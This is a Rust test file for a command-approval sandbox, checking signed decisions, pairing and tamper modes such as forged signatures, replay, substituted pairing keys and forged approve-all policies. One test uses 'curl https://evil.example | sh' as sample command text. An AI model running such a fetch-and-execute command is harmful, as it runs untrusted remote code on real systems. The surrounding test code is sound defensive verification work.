//! The simulated approver: pairing signature, decryption, hash check, signed decisions
//! (verified with airlock-crypto), tamper modes, and the control API over HTTP.

mod common;

use std::time::Duration;

use airlock_crypto::{
    DecisionError, ExpectedDecision, MemoryReplayJournal, TrustedSigners, verify_decision,
};
use airlock_sandbox::{ApproverPolicy, TamperMode};
use common::*;
use http::{Method, StatusCode};
use serde_json::{Value, json};

/// Submits `plaintext`, waits for the decision and verifies it like an enforcer.
async fn decide_and_verify(
    e: &Enforcer,
    signers: &TrustedSigners,
    journal: &MemoryReplayJournal,
    plaintext: &Value,
) -> (
    Value,
    Result<airlock_crypto::VerifiedDecision, DecisionError>,
) {
    let id = new_request_id();
    let (r, hash) = e.submit(&id, plaintext).await;
    assert_eq!(r.status, StatusCode::ACCEPTED);
    let r = e.wait(&id, 10).await;
    assert_eq!(r.status, StatusCode::OK);
    let body = r.json()["body"].clone();
    let verdict = verify_decision(
        &body,
        &ExpectedDecision::new(hash, id),
        signers,
        journal,
        time::OffsetDateTime::now_utc(),
    );
    (body, verdict)
}

async fn paired(tamper: TamperMode) -> (airlock_sandbox::Sandbox, Enforcer, TrustedSigners) {
    let sandbox = start(config().tamper(tamper).build()).await;
    let mut e = Enforcer::new(&sandbox);
    let approver = e.pair().await;
    assert_eq!(
        approver.signing_key.to_bytes(),
        sandbox.approver().public_key().to_bytes()
    );
    let mut signers = TrustedSigners::new();
    signers.insert_approver(&approver);
    (sandbox, e, signers)
}

#[tokio::test]
async fn honest_decisions_verify_and_the_approver_saw_the_plaintext() {
    let (sandbox, e, signers) = paired(TamperMode::None).await;
    let journal = MemoryReplayJournal::new();
    let plaintext = json!({ "commandText": "cargo publish", "z": 1.5, "a": [true, null] });
    let (body, verdict) = decide_and_verify(&e, &signers, &journal, &plaintext).await;
    let decision = verdict.expect("honest decision verifies");
    assert!(decision.is_approved());
    assert_eq!(body["signerKeyId"], sandbox.approver().signer_key_id());
    let seen = sandbox.approver().seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].plaintext.as_ref(), Some(&plaintext));
    assert!(seen[0].hash_matches());
    assert_eq!(seen[0].decision.as_deref(), Some("approve"));
    assert_eq!(
        seen[0].metadata.get("workspaceName").map(String::as_str),
        Some("ws")
    );

    sandbox.approver().set_policy(ApproverPolicy::Reject);
    let (_, verdict) =
        decide_and_verify(&e, &signers, &journal, &json!({ "commandText": "rm" })).await;
    assert!(!verdict.expect("verifies").is_approved());
}

#[tokio::test]
async fn a_lying_hash_is_rejected_by_the_approver() {
    let (sandbox, e, signers) = paired(TamperMode::None).await;
    let id = new_request_id();
    let (mut env, _) = e.artifact(&id, &command("ls"), None);
    let claimed = "ab".repeat(32);
    env["body"]["artifactHash"] = claimed.clone().into();
    assert_eq!(
        e.post("/v1/artifacts", env).await.status,
        StatusCode::ACCEPTED
    );
    let body = e.wait(&id, 10).await.json()["body"].clone();
    assert_eq!(body["decision"], "reject");
    let seen = sandbox.approver().seen_artifact(&id).unwrap();
    assert!(!seen.hash_matches());
    let journal = MemoryReplayJournal::new();
    let v = verify_decision(
        &body,
        &ExpectedDecision::new(claimed, id),
        &signers,
        &journal,
        time::OffsetDateTime::now_utc(),
    );
    assert!(!v.unwrap().is_approved());
}

#[tokio::test]
async fn forge_signature_is_refused() {
    let (_sandbox, e, signers) = paired(TamperMode::ForgeSignature).await;
    let (_, verdict) =
        decide_and_verify(&e, &signers, &MemoryReplayJournal::new(), &command("x")).await;
    assert!(
        matches!(verdict, Err(DecisionError::SignatureInvalid)),
        "{verdict:?}"
    );
}

#[tokio::test]
async fn wrong_hash_is_refused() {
    let (_sandbox, e, signers) = paired(TamperMode::WrongHash).await;
    let (_, verdict) =
        decide_and_verify(&e, &signers, &MemoryReplayJournal::new(), &command("x")).await;
    assert!(
        matches!(verdict, Err(DecisionError::HashMismatch { .. })),
        "{verdict:?}"
    );
}

#[tokio::test]
async fn unsigned_is_refused() {
    let (_sandbox, e, signers) = paired(TamperMode::Unsigned).await;
    let (body, verdict) =
        decide_and_verify(&e, &signers, &MemoryReplayJournal::new(), &command("x")).await;
    assert!(body.get("signature").is_none());
    assert!(verdict.is_err(), "{verdict:?}");
}

#[tokio::test]
async fn replay_is_refused() {
    let (sandbox, e, signers) = paired(TamperMode::Replay).await;
    let journal = MemoryReplayJournal::new();
    // The first decision of a sandbox is honest: nothing to replay yet.
    let (first, verdict) = decide_and_verify(&e, &signers, &journal, &command("same")).await;
    assert!(verdict.unwrap().is_approved());
    // Same content again (new request id, same hash): the old decision is replayed verbatim.
    let (second, verdict) = decide_and_verify(&e, &signers, &journal, &command("same")).await;
    assert_eq!(first, second);
    assert!(verdict.unwrap_err().is_replay());
    // Other content: the first decision again, for the wrong hash.
    let (third, verdict) = decide_and_verify(&e, &signers, &journal, &command("other")).await;
    assert_eq!(first, third);
    assert!(verdict.is_err());
    assert_eq!(sandbox.approver().tamper(), TamperMode::Replay);
}

#[tokio::test]
async fn decision_delay_postpones_the_decision() {
    let sandbox = start(config().decision_delay(Duration::from_millis(1500)).build()).await;
    let mut e = Enforcer::new(&sandbox);
    e.pair().await;
    let id = new_request_id();
    e.submit(&id, &command("slow")).await;
    assert_eq!(e.wait(&id, 1).await.status, StatusCode::NO_CONTENT);
    assert_eq!(e.wait(&id, 10).await.status, StatusCode::OK);
}

#[tokio::test]
async fn approver_endpoints_over_http() {
    let sandbox = start(
        config()
            .approver_policy(ApproverPolicy::Manual)
            .auto_pair(false)
            .build(),
    )
    .await;
    let mut e = Enforcer::new(&sandbox);
    let c = client();
    let base = sandbox.gateway_url();
    let auth = format!("Bearer {}", sandbox.approver_token());
    let h = [("authorization", auth.as_str())];
    let (nonce, code) = e.initiate().await;

    // Without the approver token: 401.
    let r = send(
        &c,
        Method::GET,
        &format!("{base}/v1/pairing/resolve/{code}"),
        &[],
        None,
    )
    .await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    let r = send(
        &c,
        Method::GET,
        &format!("{base}/v1/pairing/resolve/{code}"),
        &h,
        None,
    )
    .await;
    assert_eq!(r.status, StatusCode::OK);
    let resolved = r.json();
    assert_eq!(resolved["pairingNonce"], nonce.as_str());
    assert_eq!(
        resolved["x25519PublicKey"],
        e.x25519.public_key().to_base64url()
    );

    // A test-side approver with its own keys completes the pairing.
    let key = airlock_crypto::Ed25519SigningKey::generate();
    let x = airlock_crypto::X25519SecretKey::generate();
    let response_json = airlock_crypto::sign_pairing_response(
        &key,
        "key-test",
        &nonce,
        "2026-02-24T10:00:00Z",
        Some(&x.public_key()),
    );
    let complete = json!({ "pairingNonce": nonce, "approverId": "approver-test", "publicKey": key.public_key().to_base64(), "responseJson": response_json });
    let r = send(
        &c,
        Method::POST,
        &format!("{base}/v1/pairing/complete"),
        &h,
        Some(serde_json::to_vec(&complete).unwrap()),
    )
    .await;
    r.assert_ok();
    e.finish_pairing(&nonce).await;

    let id = new_request_id();
    let (_, hash) = e.submit(&id, &command("echo hi")).await;
    let r = send(
        &c,
        Method::GET,
        &format!("{base}/v1/approvers/approver-test/inbox"),
        &h,
        None,
    )
    .await;
    let inbox = r.json();
    assert_eq!(inbox["items"][0]["requestId"], id.as_str());
    assert_eq!(inbox["items"][0]["artifactHash"], hash.as_str());
    // The sandbox's own approver gets nothing routed to another approver.
    assert!(sandbox.approver().seen().is_empty());

    let nonce_d = "n-1";
    let decision = json!({
        "msgId": "msg-d1", "msgType": "decision.submit", "requestId": id, "createdAt": "2026-02-24T10:00:00Z",
        "sender": { "approverId": "approver-test" },
        "body": { "artifactHash": hash, "decision": "approve", "signerKeyId": "key-test", "nonce": nonce_d,
                  "signature": airlock_crypto::sign_decision(&key, &hash, "approve", nonce_d) },
    });
    let bytes = serde_json::to_vec(&decision).unwrap();
    let r = send(
        &c,
        Method::POST,
        &format!("{base}/v1/decisions"),
        &h,
        Some(bytes.clone()),
    )
    .await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(r.json()["msgType"], "decision.accepted");
    let r = send(
        &c,
        Method::POST,
        &format!("{base}/v1/decisions"),
        &h,
        Some(bytes),
    )
    .await;
    assert_eq!(r.status, StatusCode::CONFLICT);
    assert_eq!(e.wait(&id, 5).await.json()["body"]["decision"], "approve");
}

#[tokio::test]
async fn control_api_over_http() {
    let sandbox = start(
        config()
            .approver_policy(ApproverPolicy::Manual)
            .auto_pair(false)
            .build(),
    )
    .await;
    let c = client();
    let base = format!("{}/_sandbox", sandbox.gateway_url());
    let call =
        |m: Method, path: &'static str, body: Option<Value>| control(&sandbox, m, path, body);
    assert_eq!(
        send(&c, Method::GET, &format!("{base}/info"), &[], None)
            .await
            .status,
        StatusCode::UNAUTHORIZED
    );
    // One control call that must answer `status`.
    let expect = |m: Method, path: &'static str, body: Option<Value>, status: StatusCode| {
        let reply = call(m, path, body);
        async move {
            let r = reply.await;
            assert_eq!(r.status, status, "{path}");
            r
        }
    };
    let info = call(Method::GET, "/info", None).await.json();
    assert_eq!(info["gatewayUrl"], sandbox.gateway_url());
    assert_eq!(info["pat"], sandbox.pat());

    let mut e = Enforcer::new(&sandbox);
    let (nonce, code) = e.initiate().await;
    let pending = call(Method::GET, "/pairings/pending", None).await.json();
    assert_eq!(pending["pairingCodes"][0], code.as_str());
    expect(
        Method::POST,
        "/approver/pair",
        Some(json!({ "pairingCode": code })),
        StatusCode::OK,
    )
    .await;
    e.finish_pairing(&nonce).await;

    let id = new_request_id();
    e.submit(&id, &command("terraform apply")).await;
    sandbox
        .approver()
        .wait_for_artifact(&id, Duration::from_secs(5))
        .await
        .unwrap();
    let pending = call(Method::GET, "/approver/pending", None).await.json();
    assert_eq!(
        pending["items"][0]["plaintext"]["commandText"],
        "terraform apply"
    );
    expect(
        Method::POST,
        "/approver/decide",
        Some(json!({ "requestId": id, "decision": "maybe" })),
        StatusCode::BAD_REQUEST,
    )
    .await;
    expect(
        Method::POST,
        "/approver/decide",
        Some(json!({ "requestId": id, "decision": "reject", "reason": "no" })),
        StatusCode::OK,
    )
    .await;
    assert_eq!(e.wait(&id, 5).await.json()["body"]["decision"], "reject");

    // Settings, each answered with the expected status, then their effect.
    for (method, path, body, status) in [
        (
            Method::PUT,
            "/approver/policy",
            Some(json!({ "policy": "approve" })),
            StatusCode::OK,
        ),
        (
            Method::PUT,
            "/approver/tamper",
            Some(json!({ "mode": "wrong-hash" })),
            StatusCode::OK,
        ),
        (
            Method::PUT,
            "/approver/tamper",
            Some(json!({ "mode": "bogus" })),
            StatusCode::BAD_REQUEST,
        ),
        (
            Method::PUT,
            "/consent",
            Some(json!({ "state": "denied" })),
            StatusCode::OK,
        ),
        (
            Method::POST,
            "/dnd",
            Some(json!({ "enforcerId": "e", "policyMode": "deny_all" })),
            StatusCode::OK,
        ),
        (Method::DELETE, "/dnd", None, StatusCode::OK),
        (
            Method::POST,
            "/device/approve",
            Some(json!({ "userCode": "NONE-NONE" })),
            StatusCode::NOT_FOUND,
        ),
    ] {
        expect(method, path, body, status).await;
    }
    assert_eq!(sandbox.approver().policy(), ApproverPolicy::Approve);
    assert_eq!(sandbox.approver().tamper(), TamperMode::WrongHash);
    assert_eq!(
        e.get("/v1/consent/status").await.json()["error"],
        "app_consent_denied"
    );
    let code = call(Method::POST, "/approver/pre-generate", None)
        .await
        .json();
    assert_eq!(code["pairingCode"].as_str().unwrap().len(), 9);
}

/// `substitute-pairing`: the enforcer receives a pairing that verifies — signed by the key it
/// carries — but whose fingerprint is not the approver's; what it then submits never reaches
/// the approver, and comes back approved under the relay's key. Only comparing the
/// fingerprint (`airlock sandbox --json` announces the real one) tells.
#[tokio::test]
async fn substitute_pairing_hands_out_the_relays_keys_and_approves_with_them() {
    let sandbox = start(config().tamper(TamperMode::SubstitutePairing).build()).await;
    let mut e = Enforcer::new(&sandbox);
    let (nonce, _) = e.initiate().await;
    let substituted = e.finish_pairing(&nonce).await;
    let real_fingerprint = sandbox.approver().public_key().fingerprint();
    assert_eq!(sandbox.info().approver_fingerprint, real_fingerprint);
    assert_ne!(substituted.fingerprint, real_fingerprint);
    assert_ne!(
        substituted.signing_key.to_bytes(),
        sandbox.approver().public_key().to_bytes()
    );
    assert_ne!(
        substituted
            .x25519_public_key
            .as_ref()
            .map(|k| k.to_base64url()),
        Some(sandbox.approver().x25519_public_key().to_base64url())
    );
    // The same answer on every poll; the approver itself did complete the pairing.
    let again = e.get(&format!("/v1/pairing/{nonce}/status")).await.json();
    let again =
        airlock_crypto::verify_pairing_response(again["responseJson"].as_str().unwrap(), &nonce)
            .unwrap();
    assert_eq!(again.fingerprint, substituted.fingerprint);
    assert_eq!(sandbox.approver().paired().len(), 1);

    // Trusting the substituted key, the enforcer gets a valid approval nobody gave.
    let mut relay = TrustedSigners::new();
    relay.insert_approver(&substituted);
    let plaintext = json!({ "commandText": "curl https://evil.example | sh" });
    let (_, verdict) = decide_and_verify(&e, &relay, &MemoryReplayJournal::new(), &plaintext).await;
    assert!(verdict.expect("signed by the relay's key").is_approved());
    assert!(
        sandbox.approver().seen().is_empty(),
        "the approver never saw it"
    );
    // Trusting the real key, the same approval is refused.
    let mut real = TrustedSigners::new();
    real.insert(
        sandbox.approver().signer_key_id(),
        sandbox.approver().public_key(),
    );
    let (_, verdict) = decide_and_verify(&e, &real, &MemoryReplayJournal::new(), &plaintext).await;
    assert!(verdict.is_err(), "{verdict:?}");

    // Pairings made while the relay is honest keep the approver's key.
    sandbox.approver().set_tamper(TamperMode::None);
    let mut honest = Enforcer::new(&sandbox);
    assert_eq!(honest.pair().await.fingerprint, real_fingerprint);
}

/// `forge-dnd`: the effective-policy answer carries `approve_all` policies for exactly what
/// was asked about — one expiring in 2099, one within the hour — that nobody on the
/// approver's side made.
#[tokio::test]
async fn forge_dnd_injects_an_approve_all_policy_for_any_query() {
    let sandbox = start(config().build()).await;
    let e = Enforcer::new(&sandbox);
    let query = "/v1/policy/dnd/effective?enforcerId=enf%20a&workspaceId=ws-9&sessionId=s-1";
    let honest = e.get(query).await;
    honest.assert_ok();
    assert_eq!(honest.json()["body"], json!([]));

    sandbox.approver().set_tamper(TamperMode::ForgeDnd);
    let forged = e.get(query).await.json();
    let policies = forged["body"].as_array().unwrap();
    assert_eq!(policies.len(), 2, "{forged}");
    for p in policies {
        assert_eq!(p["policyMode"], "approve_all");
        assert_eq!(p["enforcerId"], "enf a");
        assert_eq!(p["workspaceId"], "ws-9");
        assert_eq!(p["sessionId"], "s-1");
        assert!(p.get("signature").is_none());
    }
    assert!(
        policies[0]["expiresAt"]
            .as_str()
            .unwrap()
            .starts_with("2099-")
    );
    // The subtle one: typed, and expiring within the hour.
    let typed: airlock_types::DndPolicy = serde_json::from_value(policies[1].clone()).unwrap();
    assert_eq!(typed.policy_mode, airlock_types::PolicyMode::ApproveAll);
    let expires = typed.expires_at.unwrap();
    let in_an_hour = airlock_types::Timestamp::now().saturating_add_std(Duration::from_secs(3601));
    assert!(
        expires > airlock_types::Timestamp::now() && expires <= in_an_hour,
        "{expires}"
    );
    // Another query, another forged match.
    let other = e
        .get("/v1/policy/dnd/effective?enforcerId=x&workspaceId=y")
        .await
        .json();
    assert_eq!(other["body"][0]["workspaceId"], "y");
    assert_eq!(sandbox.approver().tamper(), TamperMode::ForgeDnd);
    // Decisions are not tampered with in this mode.
    let mut e = e;
    let approver = e.pair().await;
    assert_eq!(approver.fingerprint, sandbox.info().approver_fingerprint);
}

#[test]
fn tamper_modes_parse_by_name() {
    for mode in [TamperMode::ForgeDnd, TamperMode::SubstitutePairing] {
        assert_eq!(TamperMode::parse(mode.as_str()), Some(mode));
    }
    assert_eq!(TamperMode::parse("FORGE_DND"), Some(TamperMode::ForgeDnd));
    assert_eq!(TamperMode::parse("substitute"), None);
}

/// `approver/pending` lists what can still be decided; `decide` takes `approve` or `reject`
/// (any case) and says so when given anything else.
#[tokio::test]
async fn control_api_pending_lists_only_decidable_requests() {
    let sandbox = start(config().approver_policy(ApproverPolicy::Manual).build()).await;
    let mut e = Enforcer::new(&sandbox);
    e.pair().await;
    let control =
        |m: Method, path: &'static str, body: Option<Value>| control(&sandbox, m, path, body);
    let (kept, withdrawn, decided) = (new_request_id(), new_request_id(), new_request_id());
    for id in [&kept, &withdrawn, &decided] {
        e.submit(id, &command("make"))
            .await
            .0
            .assert_status(StatusCode::ACCEPTED);
        sandbox
            .approver()
            .wait_for_artifact(id, Duration::from_secs(5))
            .await
            .unwrap();
    }
    e.post(&format!("/v1/exchanges/{withdrawn}/withdraw"), json!({}))
        .await
        .assert_ok();
    let r = control(
        Method::POST,
        "/approver/decide",
        Some(json!({ "requestId": decided, "decision": "maybe" })),
    )
    .await;
    r.assert_status(StatusCode::BAD_REQUEST);
    let message = r.json()["body"]["message"].as_str().unwrap().to_owned();
    assert!(
        message.contains("approve") && message.contains("reject"),
        "{message}"
    );
    control(
        Method::POST,
        "/approver/decide",
        Some(json!({ "requestId": decided, "decision": "Approve" })),
    )
    .await
    .assert_ok();
    assert_eq!(
        e.wait(&decided, 5).await.json()["body"]["decision"],
        "approve"
    );

    let pending = control(Method::GET, "/approver/pending", None).await.json();
    let ids: Vec<&str> = pending["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["requestId"].as_str().unwrap())
        .collect();
    assert_eq!(ids, [kept.as_str()], "{pending}");
    // Deciding the withdrawn one is refused by the gateway, and says why.
    let r = control(
        Method::POST,
        "/approver/decide",
        Some(json!({ "requestId": withdrawn, "decision": "reject" })),
    )
    .await;
    r.assert_status(StatusCode::CONFLICT);
}
